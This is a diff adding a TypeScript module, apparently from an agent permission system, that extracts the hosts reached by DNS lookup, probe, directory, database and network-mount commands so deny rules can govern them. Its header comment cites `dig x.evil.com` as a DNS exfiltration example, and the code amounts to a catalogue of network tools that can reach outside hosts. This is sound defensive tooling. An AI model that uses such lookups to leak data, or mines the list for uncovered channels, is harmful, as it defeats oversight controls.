@@ -1,0 +1,197 @@
+// The hosts name lookups and the long tail of host tools reach (remote-hosts.ts reads the
+// remote-shell, copy and socket tools): Domain parts for deny and ask rules, which the tool's
+// allow rule covers.
+//
+// - A name lookup is a contact of the name's domain: the resolver asks the zone's nameserver, so
+//   `dig x.evil.com` reaches evil.com's server as `ping x.evil.com` does (DNS exfiltration). The
+//   names of dig, kdig, drill, nslookup, host, `getent hosts|ahosts…`, `resolvectl query`,
+//   `dscacheutil -q host -a name`, and their servers.
+// - Tools whose operand or option is the host they reach: TLS and time clients (gnutls-cli,
+//   ntpdate, sntp, rdate), probes (arping, fping, hping3, nping, traceroute6, tcptraceroute,
+//   tcping, `iperf -c`), directory, SNMP and database clients (ldapsearch and the ldap tools' `-H`
+//   and `-h`, snmpwalk and the snmp tools' agent, mongosh and mongo, sqlcmd `-S`, etcdctl
+//   `--endpoints`), `cvs -d :pserver:host:/x`, and network mounts (`mount host:/x`, `mount
+//   //host/share`, mount.nfs, mount.cifs, mount_smbfs, mount_nfs, showmount, rpcinfo).
+
+import type { FileTouches } from './file-touches.js';
+import { hostUrl, options, type Reader } from './host-options.js';
+import { letterGrammar, type Word } from './long-options.js';
+import { urlsIn } from './package-hosts.js';
+
+/** One host word: an expansion is unknown, a URL gives its host, else each of `a,b` (`host[:port]`). */
+function host(t: FileTouches, w: Word): void {
+  if (w.dynamic) t.url(w.word, true);
+  else if (w.word.includes('://')) urlsIn(w.word, t);
+  else for (const h of w.word.split(',')) if (h !== '' && !h.startsWith('/')) t.url(hostUrl('tcp', h), false);
+}
+
+/** DNS record types and classes: words of a lookup that name no host (`dig x.com MX IN`). */
+const DNS_TYPES = new Set(['a', 'aaaa', 'any', 'axfr', 'ixfr', 'caa', 'cname', 'dnskey', 'ds', 'hinfo', 'https', 'mx', 'naptr', 'ns', 'nsec',
+  'nsec3', 'nsec3param', 'ptr', 'rrsig', 'soa', 'spf', 'srv', 'sshfp', 'svcb', 'tlsa', 'txt', 'uri', 'cds', 'cdnskey', 'loc', 'in', 'ch', 'hs', 'cs']);
+
+/** dig, kdig, drill: every name looked up, `@server`, and `-q NAME` (`+short` and types are no names). */
+function digLike(tool: string, args: string): Reader {
+  const g = letterGrammar(args);
+  return (words, dynamic, t) => {
+    const o = options(words, dynamic, g, t, tool);
+    for (const { name, value } of o.values) {
+      if (name === '-q') host(t, value);
+      else if (name === '-f' || name === '-k') t.read(value.word, value.dynamic);
+    }
+    for (const w of o.operands) {
+      if (w.dynamic) host(t, w);
+      else if (w.word.startsWith('@')) host(t, { word: w.word.slice(1), dynamic: false });
+      else if (!w.word.startsWith('+') && !DNS_TYPES.has(w.word.toLowerCase()) && !/^(?:type|class)\d+$/i.test(w.word)) host(t, w);
+    }
+  };
+}
+
+/** A tool whose operands are each a host (`nslookup NAME SERVER`, `fping a b`); options by its letters (and long ones). */
+function operandHosts(tool: string, args: string, longArgs: readonly string[] = [], hostOptions: readonly string[] = [], first = false): Reader {
+  const g = letterGrammar(args, longArgs);
+  return (words, dynamic, t) => {
+    const o = options(words, dynamic, g, t, tool);
+    for (const { name, value } of o.values) if (hostOptions.includes(name)) host(t, value);
+    // (nslookup's `-` is its interactive mode's marker, no host.)
+    const operands = o.operands.filter((w) => w.dynamic || w.word !== '-');
+    for (const w of first ? operands.slice(0, 1) : operands) host(t, w);
+  };
+}
+
+/** A tool whose host is an option's value only (`ldapsearch -H ldap://h`, `iperf3 -c h`). */
+function optionHosts(tool: string, args: string, hostOptions: readonly string[], longArgs: readonly string[] = []): Reader {
+  const g = letterGrammar(args, longArgs);
+  return (words, dynamic, t) => {
+    for (const { name, value } of options(words, dynamic, g, t, tool).values) if (hostOptions.includes(name)) host(t, value);
+  };
+}
+
+/** getent: the keys of the host databases are names it resolves. */
+const getent: Reader = (words, dynamic, t) => {
+  const o = options(words, dynamic, letterGrammar('s', ['service']), t, 'getent');
+  const [db, ...keys] = o.operands;
+  if (db === undefined) return;
+  if (db.dynamic || /^(?:hosts|ahosts|ahostsv4|ahostsv6)$/.test(db.word)) for (const k of keys) host(t, k);
+};
+
+/** resolvectl (systemd-resolve): `query`, `tlsa`, `openpgp` NAME…, and the old tool's bare names. */
+function resolvectl(tool: string): Reader {
+  const g = letterGrammar('itcp', ['interface', 'type', 'class', 'protocol', 'cache', 'zone', 'trust-anchor', 'network', 'search', 'synthesize',
+    'validate', 'stale-data', 'relax-single-label', 'json']);
+  return (words, dynamic, t) => {
+    const o = options(words, dynamic, g, t, tool);
+    const [sub, ...rest] = o.operands;
+    if (sub === undefined) return;
+    if (tool === 'systemd-resolve') for (const w of o.operands) host(t, w);
+    else if (sub.dynamic || /^(?:query|tlsa|openpgp)$/.test(sub.word)) for (const w of rest) host(t, w);
+  };
+}
+
+/** dscacheutil (macOS): `-q host -a name NAME` resolves NAME. */
+const dscacheutil: Reader = (words, dynamic, t) => {
+  for (let i = 1; i + 2 < words.length; i++) if (words[i] === '-a' && words[i + 1] === 'name') host(t, { word: words[i + 2]!, dynamic: dynamic[i + 2] ?? false });
+};
+
+/** An SNMP agent (`udp:h:161`, `tcp6:[::1]`, `h`): its transport prefix dropped. */
+function snmpTool(tool: string): Reader {
+  const g = letterGrammar('vcuaAxXelnrtZmMOIPLCDEyYT');
+  return (words, dynamic, t) => {
+    const agent = options(words, dynamic, g, t, tool).operands[0];
+    if (agent === undefined) return;
+    host(t, agent.dynamic ? agent : { word: agent.word.replace(/^(?:udp6?|tcp6?|udpv6|tcpv6|dtlsudp|tlstcp|ssh):/i, ''), dynamic: false });
+  };
+}
+
+/** mongosh and mongo: `--host [rs/]h1,h2`, and an operand `h/db`, `h:port/db` or a URI (not a script `x.js`, nor a local db name). */
+function mongoShell(tool: string): Reader {
+  const g = letterGrammar('upf', ['host', 'port', 'username', 'password', 'file', 'eval', 'authenticationDatabase', 'authenticationMechanism',
+    'tlsCAFile', 'tlsCertificateKeyFile', 'apiVersion', 'sslCAFile', 'sslPEMKeyFile']);
+  return (words, dynamic, t) => {
+    const o = options(words, dynamic, g, t, tool);
+    for (const { name, value } of o.values) if (name === '--host') host(t, value.dynamic ? value : { word: value.word.replace(/^[^/]*\//, ''), dynamic: false });
+    for (const w of o.operands) {
+      if (w.dynamic || w.word.includes('://')) host(t, w);
+      else if (/^[^/]+\/[^/]/.test(w.word) && !/\.js$/i.test(w.word)) host(t, { word: w.word.slice(0, w.word.indexOf('/')), dynamic: false });
+    }
+  };
+}
+
+/** sqlcmd `-S [tcp:]host[\instance][,port]`. */
+const sqlcmd: Reader = (words, dynamic, t) => {
+  const g = letterGrammar('USPdHltswaioqQcfvyYmVLhMNKzZ');
+  for (const { name, value } of options(words, dynamic, g, t, 'sqlcmd').values) {
+    if (name === '-S') host(t, value.dynamic ? value : { word: value.word.replace(/^(?:tcp|np|lpc|admin):/i, '').replace(/[\\,].*$/s, ''), dynamic: false });
+    else if (name === '-i') t.read(value.word, value.dynamic);
+    else if (name === '-o') t.edit(value.word, value.dynamic);
+  }
+};
+
+/** cvs `-d :method:[user@]host[:port]:/root` or `[user@]host:/root` (reached over rsh or ssh). */
+const cvs: Reader = (words, dynamic, t) => {
+  for (let i = 1; i < words.length; i++) {
+    const v = words[i] === '-d' ? i + 1 : words[i]!.startsWith('-d') ? i : -1;
+    if (v < 0 || v >= words.length) continue;
+    const root = v === i ? words[i]!.slice(2) : words[v]!;
+    if (dynamic[v]) t.url(root, true);
+    else {
+      const m = /^(?::[^:]*:)?(?:[^@/]*@)?([^:/]+)(?::\d*)?:?\//.exec(root);
+      if (m !== null && (root.startsWith(':') || root.indexOf(':') < root.indexOf('/'))) t.url(hostUrl('tcp', m[1]!), false);
+    }
+  }
+};
+
+/** A network mount's source: `//[user@]host/share` (SMB), `host:/export` (NFS). */
+function mountSource(t: FileTouches, w: Word): void {
+  if (w.dynamic) {
+    t.url(w.word, true);
+    return;
+  }
+  if (w.word.includes('://')) {
+    urlsIn(w.word, t);
+    return;
+  }
+  const smb = /^[\\/]{2}(?:[^/\\]*@)?([^/\\]+)/.exec(w.word);
+  const nfs = /^((?:\[[^\]]*\]|[^/:[]+)):/.exec(w.word);
+  const h = smb?.[1] ?? nfs?.[1];
+  if (h !== undefined && h !== '') t.url(hostUrl('tcp', h.replace(/:\d+$/, '')), false);
+}
+
+function mountTool(tool: string, args: string): Reader {
+  const g = letterGrammar(args);
+  return (words, dynamic, t) => {
+    for (const w of options(words, dynamic, g, t, tool).operands) mountSource(t, w);
+  };
+}
+
+const IPERF = letterGrammar('pfiFABbtnklPOTwMSCLcX', ['client', 'port', 'format', 'interval', 'file', 'bind', 'time', 'bytes', 'blockcount', 'length',
+  'parallel', 'window', 'set-mss', 'tos', 'title', 'logfile', 'connect-timeout', 'cport', 'bidir']);
+
+/** Readers of the hosts lookups and the long tail of host tools reach, by the name they run as. */
+export const LOOKUP_HOST_READERS: readonly [string, Reader][] = [
+  ['dig', digLike('dig', 'bcfkmpqtxy')], ['kdig', digLike('kdig', 'bcfkmpqtxyE')], ['drill', digLike('drill', 'cfkoprsyDatw')],
+  ['nslookup', operandHosts('nslookup', '')], ['host', operandHosts('host', 'cNRtWmp')], ['getent', getent],
+  ['resolvectl', resolvectl('resolvectl')], ['systemd-resolve', resolvectl('systemd-resolve')], ['dscacheutil', dscacheutil],
+  ['gnutls-cli', operandHosts('gnutls-cli', 'pd', ['port', 'debug', 'x509cafile', 'x509certfile', 'x509keyfile', 'x509crlfile', 'priority', 'sni-hostname',
+    'alpn', 'starttls-proto', 'save-cert', 'save-ocsp', 'save-server-trace', 'save-client-trace', 'verify-hostname', 'ocsp-response', 'waitresumption',
+    'recordsize', 'dh-bits', 'srpusername', 'srppasswd', 'pskusername', 'pskkey', 'pgpkeyfile', 'pgpcertfile', 'logfile', 'keymatexport', 'keymatexportsize',
+    'inline-commands-prefix', 'attime', 'list-config'])],
+  ['ntpdate', operandHosts('ntpdate', 'aekopt')], ['sntp', operandHosts('sntp', 'aKkMotbcg', [], ['-b', '-c'])], ['rdate', operandHosts('rdate', '')],
+  ['arping', operandHosts('arping', 'cfwsIWiSTt')], ['fping', operandHosts('fping', 'bBcCHiIOpQrSt')], ['hping3', operandHosts('hping3', 'cipstIadEwHMLOQCKNGgmo')],
+  ['nping', operandHosts('nping', 'pgcHSe', ['source-port', 'dest-port', 'count', 'delay', 'rate', 'ttl', 'data', 'data-string', 'data-length', 'source-ip',
+    'dest-ip', 'interface', 'flags', 'win', 'seq', 'ack', 'icmp-type', 'icmp-code', 'mtu', 'tos', 'id', 'dest-mac', 'source-mac', 'ether-type', 'arp-type'])],
+  ['traceroute6', operandHosts('traceroute6', 'fgimNpqstwxzAFI')], ['tcptraceroute', operandHosts('tcptraceroute', 'iflmNpqstwS')],
+  ['tcping', operandHosts('tcping', 'tpwc')],
+  ['iperf', optionHosts('iperf', 'pfiFABbtnklPOTwMSCLcX', ['-c', '--client'], ['client', 'port'])], ['iperf3', (w, d, t) => {
+    for (const { name, value } of options(w, d, IPERF, t, 'iperf3').values) if (name === '-c' || name === '--client') host(t, value);
+  }],
+  ...['ldapsearch', 'ldapmodify', 'ldapadd', 'ldapdelete', 'ldapwhoami', 'ldappasswd', 'ldapcompare', 'ldapmodrdn', 'ldapexop', 'ldapurl']
+    .map((n): [string, Reader] => [n, optionHosts(n, 'bDeEfHhopPswyzlYXRUOTNSi', ['-H', '-h'])]),
+  ...['snmpwalk', 'snmpget', 'snmpgetnext', 'snmpset', 'snmpbulkwalk', 'snmpbulkget', 'snmptable', 'snmpdf', 'snmpstatus', 'snmptrap']
+    .map((n): [string, Reader] => [n, snmpTool(n)]),
+  ['mongosh', mongoShell('mongosh')], ['mongo', mongoShell('mongo')], ['sqlcmd', sqlcmd],
+  ['etcdctl', optionHosts('etcdctl', '', ['--endpoints'], ['endpoints'])], ['cvs', cvs],
+  ['mount', mountTool('mount', 'toOLUNTF')], ['mount.nfs', mountTool('mount.nfs', 'o')], ['mount.nfs4', mountTool('mount.nfs4', 'o')],
+  ['mount.cifs', mountTool('mount.cifs', 'o')], ['mount.smb3', mountTool('mount.smb3', 'o')], ['mount_smbfs', mountTool('mount_smbfs', 'ONWIoMdfu')],
+  ['mount_nfs', mountTool('mount_nfs', 'o')], ['mount_afp', mountTool('mount_afp', 'o')], ['mount_webdav', mountTool('mount_webdav', 'o')],
+  ['showmount', operandHosts('showmount', '', [], [], true)], ['rpcinfo', operandHosts('rpcinfo', 'nbaT', [], [], true)],
+];
